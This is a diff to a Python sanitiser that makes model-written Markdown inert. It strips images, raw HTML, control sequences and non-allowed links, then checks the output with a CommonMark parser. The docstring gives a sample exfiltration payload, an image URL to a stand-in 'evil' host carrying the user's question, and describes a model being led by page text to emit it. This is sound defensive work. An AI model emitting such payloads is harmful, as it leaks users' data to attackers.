@@ -1,4 +1,4 @@
-"""Make model-written and page-derived Markdown inert before it leaves the run.
+r"""Make model-written and page-derived Markdown inert before it leaves the run.
 
 A model that follows text on a page it read can write active content into the report: an
 image whose URL carries the question to an attacker (``![x](http://evil/?q=...)``), raw HTML
@@ -15,6 +15,17 @@ every Markdown viewer, so only their control characters go):
 * a bare ``http(s)://`` URL that is not allowed, or a ``www.`` address (which GitHub's
   Markdown links too), is put in a code span, so that no viewer turns it into a link.
 
+Images become their text whatever their URL: a viewer loads an image without a click.
+
+Those edits find their tokens with regular expressions, which a CommonMark parser need not
+agree with (an escaped backtick, a code span across lines, a fence closed by a longer one, a
+link definition inside a block quote). So the result is then parsed as CommonMark
+(markdown-it-py) and checked: no raw HTML, no image, no link but to ``allowed``. Text that
+fails the check is made inert another way, from the original: every character that can start
+active content (``\\``, backticks, ``<``, ``[``, ``!``) is escaped with a backslash outside
+the code blocks the parser found, and, should the text still fail (escapes can change the
+blocks), everywhere.
+
 The edits are returned with the text, so that offsets into the original (the claims') can be
 moved into the result (:meth:`Inert.moved`).
 """
@@ -25,6 +36,10 @@ import re
 from bisect import bisect_right
 from collections.abc import Collection
 from dataclasses import dataclass, field
+from functools import cache
+
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
 _CONTROL = re.compile(
     r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, erasing
@@ -35,6 +50,9 @@ _CONTROL = re.compile(
 _NAME_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
 """Control characters of a file name, newlines and tabs included."""
 
+_BARE_URL = r"\b(?:(?:https?|ftp)://|www\.)[^\s<>()\[\]`]*[^\s<>()\[\]`.,;:!?'\"*_]"
+"""A URL written without Markdown around it (a ``www.`` address too: GitHub links those)."""
+
 _TOKEN = re.compile(
     r"(?P<fence>^ {0,3}(?P<marks>```+|~~~+)[^\n]*\n(?:.*?\n)?? {0,3}(?P=marks)[ \t]*(?:\n|\Z))"
     r"|(?P<code>(?P<ticks>`+)[^`]+?(?P=ticks))"
@@ -42,9 +60,11 @@ _TOKEN = re.compile(
     r"|(?P<link>\[(?P<text>[^\]\n]*)\]\((?P<href>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
     r"|(?P<definition>^ {0,3}\[(?!\^)[^\]\n]+\]:[ \t]*<?(?P<target>[^\s>]+)>?[^\n]*)"
     r"|(?P<tag><(?=[A-Za-z/!?]))"
-    r"|(?P<bare>\b(?:(?:https?|ftp)://|www\.)[^\s<>()\[\]`]*[^\s<>()\[\]`.,;:!?'\"*_])",
+    rf"|(?P<bare>{_BARE_URL})",
     re.MULTILINE | re.DOTALL,
 )
+
+_BARE = re.compile(_BARE_URL)
 
 
 @dataclass(frozen=True)
@@ -97,7 +117,7 @@ def _replacement(match: re.Match[str], allowed: Collection[str]) -> str | None:
     if kind in ("fence", "code"):
         return None
     if kind == "image":
-        return None if match["src"] in allowed else match["alt"]
+        return match["alt"]
     if kind == "link":
         return None if match["href"] in allowed else match["text"]
     if kind == "definition":
@@ -109,8 +129,20 @@ def _replacement(match: re.Match[str], allowed: Collection[str]) -> str | None:
     return None  # pragma: no cover - every group is named above
 
 
-def inert_markdown(text: str, allowed: Collection[str] = ()) -> Inert:
-    """Make ``text`` inert (see the module docstring); ``allowed`` are the URLs it may show."""
+def _applied(text: str, edits: list[Edit]) -> Inert:
+    """``text`` with ``edits`` (in order, not overlapping) made."""
+    pieces: list[str] = []
+    last = 0
+    for edit in edits:
+        pieces.append(text[last : edit.start])
+        pieces.append(edit.replacement)
+        last = edit.end
+    pieces.append(text[last:])
+    return Inert("".join(pieces), edits)
+
+
+def _tokenized(text: str, allowed: Collection[str]) -> Inert:
+    """The edits of the module docstring's list, found by regular expressions."""
     edits: list[Edit] = []
     for match in _TOKEN.finditer(text):
         replacement = _replacement(match, allowed)
@@ -127,14 +159,95 @@ def inert_markdown(text: str, allowed: Collection[str] = ()) -> Inert:
         if not any(e.start <= m.start() < e.end for e in edits)
     )
     edits.sort(key=lambda edit: edit.start)
-    pieces: list[str] = []
-    last = 0
-    for edit in edits:
-        pieces.append(text[last : edit.start])
-        pieces.append(edit.replacement)
-        last = edit.end
-    pieces.append(text[last:])
-    return Inert("".join(pieces), edits)
+    return _applied(text, edits)
+
+
+@cache
+def _parser() -> MarkdownIt:
+    return MarkdownIt("commonmark")
+
+
+def _tokens(tokens: list[Token]) -> list[Token]:
+    """``tokens`` and the inline tokens inside them, in order."""
+    found: list[Token] = []
+    for token in tokens:
+        found.append(token)
+        found.extend(_tokens(token.children or []))
+    return found
+
+
+def live_content(text: str, allowed: Collection[str] = ()) -> list[str]:
+    """What a CommonMark viewer would show of ``text`` as active: raw HTML, images, links.
+
+    A link to one of ``allowed`` is not active content (a report cites its references).
+    """
+    parser = _parser()
+    targets = {parser.normalizeLink(url) for url in allowed}
+    live: list[str] = []
+    for token in _tokens(parser.parse(text)):
+        if token.type in ("html_block", "html_inline"):
+            live.append(f"HTML {token.content!r}")
+        elif token.type == "image":
+            live.append(f"image {token.attrGet('src')!r}")
+        elif token.type == "link_open" and token.attrGet("href") not in targets:
+            live.append(f"link {token.attrGet('href')!r}")
+    return live
+
+
+_ACTIVE = frozenset("\\`<[!")
+"""Characters that can start active content in CommonMark (with ``~`` fences, code only)."""
+
+
+def _code_lines(text: str) -> set[int]:
+    """The numbers of the lines that CommonMark reads as a code block (fenced or indented)."""
+    lines: set[int] = set()
+    for token in _parser().parse(text):
+        if token.type in ("fence", "code_block") and token.map:
+            lines.update(range(*token.map))
+    return lines
+
+
+def _escaped(text: str, allowed: Collection[str], *, keep_code: bool) -> Inert:
+    """``text`` with controls removed and active characters escaped (see the docstring).
+
+    With ``keep_code``, lines of code blocks are left as written. Bare URLs that are not
+    ``allowed`` go in code spans as :func:`_tokenized` puts them.
+    """
+    code = _code_lines(strip_controls(text)) if keep_code else set()  # same lines: no \n goes
+    edits: list[Edit] = []
+    line, position = 0, 0
+    bare = {m.start(): m for m in _BARE.finditer(text)}
+    controls = {m.start(): m.end() for m in _CONTROL.finditer(text)}
+    while position < len(text):
+        char = text[position]
+        if position in controls:
+            edits.append(Edit(position, controls[position], ""))
+            position = controls[position]
+            continue
+        if char == "\n":
+            line += 1
+        elif line not in code:
+            url = bare.get(position)
+            if url is not None:
+                if url[0] not in allowed:
+                    edits.append(Edit(position, url.end(), f"`{strip_controls(url[0])}`"))
+                position = url.end()
+                continue
+            if char in _ACTIVE:
+                edits.append(Edit(position, position + 1, "\\" + char))
+        position += 1
+    return _applied(text, edits)
+
+
+def inert_markdown(text: str, allowed: Collection[str] = ()) -> Inert:
+    """Make ``text`` inert (see the module docstring); ``allowed`` are the URLs it may show."""
+    tokenized = _tokenized(text, allowed)
+    if not live_content(tokenized.text, allowed):
+        return tokenized
+    escaped = _escaped(text, allowed, keep_code=True)
+    if not live_content(escaped.text, allowed):
+        return escaped
+    return _escaped(text, allowed, keep_code=False)
 
 
 def inert_text(text: str, allowed: Collection[str] = ()) -> str:
@@ -143,5 +256,8 @@ def inert_text(text: str, allowed: Collection[str] = ()) -> str:
 
 
 def inert_title(title: str) -> str:
-    """A title on one line with no active content (a chat's, a report's H1)."""
-    return " ".join(inert_text(title).split())
+    """A title on one line with no active content (a chat's, a report's H1).
+
+    Its lines are joined first, then made inert: joined after, they could make new Markdown.
+    """
+    return inert_text(" ".join(strip_controls(title).split()))
